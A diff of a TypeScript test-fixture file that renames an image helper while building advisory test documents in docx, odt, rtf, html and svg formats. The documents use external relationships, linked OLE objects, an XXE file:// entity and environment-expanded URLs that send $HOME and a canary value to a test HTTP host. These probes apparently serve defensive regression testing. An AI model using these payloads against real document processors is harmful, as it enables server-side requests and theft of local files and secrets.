@@ -3,7 +3,7 @@
  * secrets of one run. README.md beside this file says which advisory is which file and which test.
  */
 import type { FormatId } from '@filesmith/contract/formats'
-import { paragraph, picture, type Relation, writeDocx } from '../support/write-docx.ts'
+import { image as imageParagraph, paragraph, type Relation, writeDocx } from '../support/write-docx.ts'
 import { odtPackage } from '../support/write-odt.ts'
 import type { Targets } from './hostile-file.ts'
 
@@ -45,8 +45,8 @@ const field = (...runs: readonly string[]) =>
   `<w:p><w:r><w:fldChar w:fldCharType="begin" w:dirty="true"/></w:r>${runs.join('')}<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>result</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`
 const run = (text: string) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`
 
-function linkedDocx({ http, picture: image, text }: Targets): AdvisoryDocument[] {
-  const body = words + picture('a', true) + picture('b', true)
+function linkedDocx({ http, image, text }: Targets): AdvisoryDocument[] {
+  const body = words + imageParagraph('a', true) + imageParagraph('b', true)
   return [
     made(
       'GHSA-2mrg-35hw-x3x9 (CVE-2026-55229)',
@@ -62,7 +62,7 @@ function linkedDocx({ http, picture: image, text }: Targets): AdvisoryDocument[]
       'docx: a:blip r:embed of an external relationship',
       'docx',
       writeDocx({
-        body: words + picture('a') + picture('b'),
+        body: words + imageParagraph('a') + imageParagraph('b'),
         relations: [external('a', 'image', `${http}/embed`), external('b', 'image', `file://${image}`)],
       }),
     ),
@@ -71,7 +71,7 @@ function linkedDocx({ http, picture: image, text }: Targets): AdvisoryDocument[]
       'docx: every kind of external relationship',
       'docx',
       writeDocx({
-        body: `${words}${picture('image', true)}<w:altChunk r:id="aFChunk"/><w:subDoc r:id="subDocument"/><w:p><w:r><w:object><v:shape id="s" style="width:9pt;height:9pt"><v:imagedata r:href="image" o:href="${http}/vml"/></v:shape><o:OLEObject Type="Link" ProgID="Word.Document" ShapeID="s" DrawAspect="Content" ObjectID="_1" r:id="oleObject" UpdateMode="Always"/></w:object></w:r></w:p>`,
+        body: `${words}${imageParagraph('image', true)}<w:altChunk r:id="aFChunk"/><w:subDoc r:id="subDocument"/><w:p><w:r><w:object><v:shape id="s" style="width:9pt;height:9pt"><v:imagedata r:href="image" o:href="${http}/vml"/></v:shape><o:OLEObject Type="Link" ProgID="Word.Document" ShapeID="s" DrawAspect="Content" ObjectID="_1" r:id="oleObject" UpdateMode="Always"/></w:object></w:r></w:p>`,
         relations: ['image', 'aFChunk', 'subDocument', 'oleObject', 'frame', 'font', 'control'].map(type =>
           external(type, type, `${http}/${type}`),
         ),
@@ -117,7 +117,7 @@ function linkedDocx({ http, picture: image, text }: Targets): AdvisoryDocument[]
   ]
 }
 
-function linkedOdt({ http, picture: image, text }: Targets): AdvisoryDocument[] {
+function linkedOdt({ http, image, text }: Targets): AdvisoryDocument[] {
   const frame = (inner: string) =>
     `<text:p><draw:frame svg:width="3cm" svg:height="2cm" text:anchor-type="as-char">${inner}</draw:frame></text:p>`
   const linked = (address: string) => frame(`<draw:image xlink:href="${address}" xlink:type="simple"/>`)
@@ -165,7 +165,7 @@ function linkedOdt({ http, picture: image, text }: Targets): AdvisoryDocument[] 
 }
 
 /** Addresses that LibreOffice fills in from the environment and from ini files before it calls them. */
-function expandedAddresses({ http, picture: image }: Targets): AdvisoryDocument[] {
+function expandedAddresses({ http, image }: Targets): AdvisoryDocument[] {
   const address = `${expand}${http}/$HOME/$FILESMITH_CANARY`
   const inPackage = `vnd.sun.star.pkg://${encodeURIComponent(`${expand}file://${image}`)}/`
   const frames = [
@@ -185,7 +185,7 @@ function expandedAddresses({ http, picture: image }: Targets): AdvisoryDocument[
       'CVE-2024-12426',
       'docx: an image whose address is expanded',
       'docx',
-      writeDocx({ body: words + picture('a', true), relations: [external('a', 'image', address)] }),
+      writeDocx({ body: words + imageParagraph('a', true), relations: [external('a', 'image', address)] }),
     ),
     made(
       'CVE-2026-63278',
@@ -286,7 +286,7 @@ function embeddedFonts(): AdvisoryDocument[] {
   ]
 }
 
-function reachingRtf({ http, picture: image, text }: Targets): AdvisoryDocument[] {
+function reachingRtf({ http, image, text }: Targets): AdvisoryDocument[] {
   const rtf = (...instructions: readonly string[]) =>
     `{\\rtf1\\ansi ${visibleWords}\\par ${instructions.map(instruction => `{\\field\\flddirty{\\*\\fldinst ${instruction}}{\\fldrslt result}}\\par `).join('')}}`
   const rest = `"${image}" \\\\d`
@@ -319,7 +319,7 @@ function reachingRtf({ http, picture: image, text }: Targets): AdvisoryDocument[
 }
 
 /** What browsers and LibreOffice load of a page, as a reader of the standard sees it and a search for words does not. */
-function reachingHtml({ http, picture: image, text }: Targets): AdvisoryDocument[] {
+function reachingHtml({ http, image, text }: Targets): AdvisoryDocument[] {
   const css = [
     `@\\69mport "${http}/1.css";`,
     `@import url(${http}/2.css);`,
@@ -397,7 +397,7 @@ function reachingHtml({ http, picture: image, text }: Targets): AdvisoryDocument
 }
 
 /** Scheme-less addresses in drawings, which are no links for a search for schemes. */
-function reachingSvg({ http, picture: image }: Targets): AdvisoryDocument[] {
+function reachingSvg({ http, image }: Targets): AdvisoryDocument[] {
   const svg = Buffer.from(
     `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file://${image}">]><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="100"><image xlink:href="${image}" width="100" height="100"/><image href="${http}/svg.png" x="100" width="100" height="100"/></svg>`,
   )
@@ -407,7 +407,7 @@ function reachingSvg({ http, picture: image }: Targets): AdvisoryDocument[] {
       'docx: a drawing that names a file, called an image',
       'docx',
       writeDocx({
-        body: words + picture('a'),
+        body: words + imageParagraph('a'),
         relations: [{ id: 'a', type: 'image', target: 'media/a.png' }],
         media: { 'media/a.png': svg },
       }),
